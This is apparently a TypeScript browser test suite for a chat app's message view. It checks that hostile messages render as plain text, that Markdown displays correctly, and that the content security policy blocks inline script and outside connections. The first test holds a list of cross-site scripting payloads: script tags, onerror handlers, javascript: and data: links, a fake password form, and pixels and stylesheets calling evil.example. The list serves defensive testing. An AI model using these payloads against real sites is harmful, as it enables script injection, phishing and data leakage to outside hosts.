/** A message is written by anybody. Whatever it says, it runs nothing, loads nothing and looks like nothing else. */
import assert from "node:assert/strict";
import { append, fresh } from "../support/http.ts";
import { target } from "../support/target.ts";
import { account, browserTest, eventually, messagesOf } from "./browser.ts";

const owner = await account();

const HOSTILE = [
  "<script>globalThis.attacked = 'script'</script>",
  "<img src=x onerror=\"globalThis.attacked = 'onerror'\">",
  "<svg onload=\"globalThis.attacked = 'svg'\"><script>1</script></svg>",
  "<svg><style><img src=x onerror=\"globalThis.attacked = 'nested'\"></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<iframe srcdoc=\"<script>parent.attacked = 'iframe'</script>\"></iframe>",
  '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
  "<style>body { display: none }</style>",
  '<div style="position: fixed; inset: 0; background: red">covers</div>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<a id="app" name="app" href="https://evil.example/">clobbers</a>',
  "[click](javascript:globalThis.attacked='link')",
  "[click](JaVaScRiPt&colon;alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  "![calls home](https://evil.example/pixel.png)",
  "![calls home](//evil.example/pixel.png)",
  '![calls home](https://evil.example/p.png "title\\" onload=\\"alert(1)")',
  "![vector](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  "[ref]: https://evil.example/ref.png\n![calls home][ref]",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<img src="https://evil.example/in-code.png">\n```',
  "| a | b |\n| - | - |\n| <img src=https://evil.example/cell.png> | <script>1</script> |",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "&lt;img src=x onerror=alert(1)&gt; stays text",
];

const title = "<img src=x onerror=\"globalThis.attacked = 'title'\"> quux";
const { body } = await append(owner, fresh("hostile"), [
  ...HOSTILE,
  {
    role: "assistant",
    content: null,
    parts: [
      { type: "text", text: HOSTILE[1] },
      {
        type: "image_url",
        image_url: { url: "https://evil.example/part.png" },
      },
      { type: "image", url: "javascript:alert(1)" },
      {
        type: "tool_use",
        name: "<script>1</script>",
        input: { a: HOSTILE[1] },
      },
      { type: "<img src=x onerror=alert(1)>", x: 1 },
    ],
  },
  { role: "tool", content: HOSTILE.join("\n") },
  "the end of it",
], { title });
const id: string = body.conversation.id;

browserTest(
  "a hostile message runs nothing, loads nothing from elsewhere and puts nothing but plain text into the page",
  () => Promise.resolve({ as: owner }),
  async ({ page }) => {
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    page.on("dialog", (dialog) => asked.push(`dialog: ${dialog.message()}`));
    await page.getByRole("searchbox").fill("quux");
    await page.getByRole("region", { name: "Titles" }).getByRole("link")
      .click();
    await messagesOf(page).getByText("the end of it").waitFor();
    await page.waitForURL(new RegExp(id));
    // Every message is rendered as Markdown by then.
    await eventually(
      () => page.locator(".plain-text").count(),
      (count) => count === 0,
    );
    for (const folded of await page.locator("details.folded").all()) {
      await folded.evaluate((element) => Object(element).open = true);
    }
    const found = await page.evaluate(`(() => {
      const messages = document.querySelector(".messages");
      const all = [...messages.querySelectorAll("*")];
      return {
        attacked: globalThis.attacked ?? null,
        elements: all.filter((e) =>
          /^(script|style|iframe|form|input|object|embed|link|base|meta|math|noscript)$/i.test(e.localName)
        ).map((e) => e.outerHTML),
        drawings: all.filter((e) => e.localName === "svg" && !e.classList.contains("icon")).length,
        handlers: all.filter((e) => e.getAttributeNames().some((name) => /^on|^style$|^srcdoc$/.test(name)))
          .map((e) => e.outerHTML),
        ids: [...messages.querySelectorAll(".markdown [id], .markdown [name]")].length,
        links: [...messages.querySelectorAll("a")].map((a) => a.protocol),
        unsafe: [...messages.querySelectorAll("a")]
          .filter((a) => a.target !== "_blank" || !/noopener/.test(a.rel)).length,
        images: [...messages.querySelectorAll("img")].map((img) => img.src),
        shown: messages.innerText,
      };
    })()`) as Record<string, unknown> & { links: string[]; shown: string };
    const { links, shown, ...rest } = found;
    assert.deepEqual(rest, {
      attacked: null,
      elements: [],
      drawings: 0,
      handlers: [],
      ids: 0,
      unsafe: 0,
      images: [],
    });
    assert.deepEqual([...new Set(links)], ["https:"]);
    // It is shown as what it is.
    assert.ok(
      shown.includes("<script>globalThis.attacked = 'script'</script>"),
    );
    assert.ok(shown.includes("<style>body { display: none }</style>"));
    const elsewhere = asked.filter((url) =>
      !url.startsWith(target.url) && !url.startsWith("blob:")
    );
    assert.deepEqual(elsewhere, []);
    assert.ok(await page.getByRole("heading", { name: title }).isVisible());
  },
);

browserTest(
  "Markdown is shown as such: emphasis, lists, tables, code with colours, links that leave nothing behind",
  async () => {
    const { body } = await append(owner, fresh("markdown"), [
      "# Title\n\nSome **bold** and `code`.\n\n- [x] done\n- [ ] open\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n" +
      "```ts\nconst x: number = 1; // one\n```\n\n[a link](https://example.com/page)\n\nline one\nline two",
    ]);
    return { as: owner, at: `#/c/${body.conversation.id}` };
  },
  async ({ page }) => {
    const message = messagesOf(page).first();
    await message.getByRole("heading", { name: "Title", level: 2 }).waitFor();
    assert.equal(await message.locator("strong").textContent(), "bold");
    assert.equal(await message.getByRole("cell").count(), 2);
    assert.ok(await message.getByText("☑ done").isVisible());
    await message.locator(".hljs-comment").waitFor();
    const link = message.getByRole("link", { name: "a link" });
    assert.equal(
      await link.getAttribute("rel"),
      "noopener noreferrer nofollow",
    );
    await message.locator("[data-code]").hover();
    await message.getByRole("button", { name: "Copy", exact: true }).click();
    assert.equal(
      await page.evaluate("navigator.clipboard.readText()"),
      "const x: number = 1; // one\n",
    );
  },
);

browserTest(
  "the policy of the page lets no inline script run, nothing reach another host, and no text become HTML",
  () => Promise.resolve({ mayBeRefused: true }),
  async ({ page }) => {
    const response = await page.request.get(`${target.url}/`);
    const policy = Object.fromEntries(
      (response.headers()["content-security-policy"] ?? "").split("; ")
        .map((part) => {
          const [name = "", ...values] = part.split(" ");
          return [name, values.join(" ")];
        }),
    );
    assert.equal(policy["default-src"], "'none'");
    assert.equal(policy["script-src"], "'self'");
    assert.equal(policy["style-src"], "'self'");
    assert.equal(policy["connect-src"], target.url);
    assert.equal(policy["frame-ancestors"], "'none'");
    assert.equal(policy["form-action"], "'none'");

    const outcome = await page.evaluate(`(async () => {
      const script = document.createElement("script");
      let inline = "refused";
      globalThis.ran = () => inline = "ran";
      try { script.textContent = "globalThis.ran()"; document.head.append(script); } catch {}
      const style = document.createElement("style");
      style.textContent = "body { color: rgb(1, 2, 3) }";
      document.head.append(style);
      let html = "refused";
      try { document.createElement("p").innerHTML = "<b>x</b>"; html = "taken"; } catch {}
      // In a task of the page's own: what the debugger evaluates may evaluate more.
      const evaluated = await new Promise((resolve) => setTimeout(() => {
        try { eval("1"); resolve("ran"); } catch { resolve("refused"); }
      }));
      const reached = await fetch("http://127.0.0.1:9/").then(() => "reached", () => "refused");
      return { inline, html, evaluated, reached,
        styled: getComputedStyle(document.body).color === "rgb(1, 2, 3)" };
    })()`);
    assert.deepEqual(outcome, {
      inline: "refused",
      html: "refused",
      evaluated: "refused",
      reached: "refused",
      styled: false,
    });
  },
);
